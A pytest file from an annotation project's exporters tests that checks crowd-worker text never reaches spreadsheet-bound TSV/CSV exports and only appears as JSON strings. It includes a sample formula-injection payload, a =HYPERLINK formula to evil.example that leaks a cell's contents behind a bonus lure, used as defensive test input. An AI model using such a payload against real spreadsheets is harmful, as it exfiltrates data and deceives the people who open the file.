"""Spreadsheet formulas in exports (issue 11, point 9): worker-typed text never reaches a
spreadsheet-bound file (TSV/CSV).

The only TSV export is CLAIRE's, a released format that must stay byte-identical (its data
itself has cells starting with ``=`` and ``-``) and whose cells are dataset text and numbers,
never a worker's words. Every export that carries a worker's text writes JSON, where a
``=HYPERLINK(…)`` answer is a JSON string, not a cell. This test drives every export format with
such answers and holds both facts, so a new TSV/CSV export of worker text fails here first (and
must neutralise its cells: a leading ``'`` on ``= + - @``, tab and CR, as OWASP advises).
"""

from __future__ import annotations

import json

import pytest

from annotation.exporters import EXPORTERS, export_project
from tests.factories import (
    annotate,
    canard_sample,
    claire_sample,
    decontext_sample,
    sluice_sample,
    websplit_sample,
    workers,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'
SPREADSHEET_SUFFIXES = (".tsv", ".csv")


def strings_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for part in value.values():
            yield from strings_in(part)
    elif isinstance(value, list):
        for part in value:
            yield from strings_in(part)


def hostile_projects():
    """One project per task kind, every text field of every answer a formula."""
    ann, bob = workers(2)
    claire, fillers = claire_sample(slug="formula-claire")
    for worker in (ann, bob):
        annotate(fillers[0], worker, rating=4.0, payload={"rating": 4, "comment": FORMULA})
    canard, turns = canard_sample(slug="formula-canard")
    sluice, contexts = sluice_sample(slug="formula-sluice")
    decontext, sentence = decontext_sample(slug="formula-decontext", split="train")
    websplit, complex_sentence = websplit_sample(slug="formula-websplit")
    for worker in (ann, bob):
        annotate(turns[0], worker, text=FORMULA, payload={"rewrite": FORMULA})
        annotate(contexts["c1"], worker, text=FORMULA,
                 payload={"full_question": FORMULA, "skipped": False})
        annotate(sentence, worker, category="DONE", text=FORMULA,
                 payload={"category": "DONE", "decontextualized_sentence": FORMULA})
        annotate(complex_sentence, worker, text=FORMULA,
                 payload={"simple_sentences": [FORMULA, "+1 two"]})
    return [claire, canard, sluice, decontext, websplit]


def test_worker_text_reaches_only_json_never_a_spreadsheet_cell(tmp_path):
    spreadsheet_files, json_hits = set(), set()
    for project in hostile_projects():
        for name, exporter in EXPORTERS.items():
            if exporter.kinds and project.kind not in exporter.kinds:
                continue
            out = tmp_path / f"{project.slug}-{name}"
            for written in export_project(project=project, format_name=name, out_dir=out):
                if written.path.suffix == ".parquet":
                    # Typed string columns (the hf format), not text a spreadsheet parses:
                    # their values are checked as strings by the Hugging Face export's tests.
                    continue
                text = written.path.read_text(encoding="utf-8")
                if written.path.name.endswith(SPREADSHEET_SUFFIXES):
                    spreadsheet_files.add(f"{name}:{written.path.name}")
                    assert FORMULA not in text, written.path.name
                    assert "HYPERLINK" not in text, written.path.name
                elif "HYPERLINK" in text:
                    # JSON (or JSON lines): the formula is a string value, not a cell.
                    documents = ([json.loads(text)] if written.path.suffix == ".json"
                                 else [json.loads(line) for line in text.splitlines()])
                    assert FORMULA in set(strings_in(documents))
                    json_hits.add(f"{project.kind}:{name}")
    # The worker's words were exported (by every dataset format and the generic JSONL)…
    assert {"rewrite:canard", "sluice:sluice", "decontext:decontext",
            "split_rephrase:websplit", "plausibility:jsonl"} <= json_hits
    # …and the only spreadsheet-bound files are CLAIRE's released ones.
    assert {entry.split(":")[0] for entry in spreadsheet_files} == {"claire"}
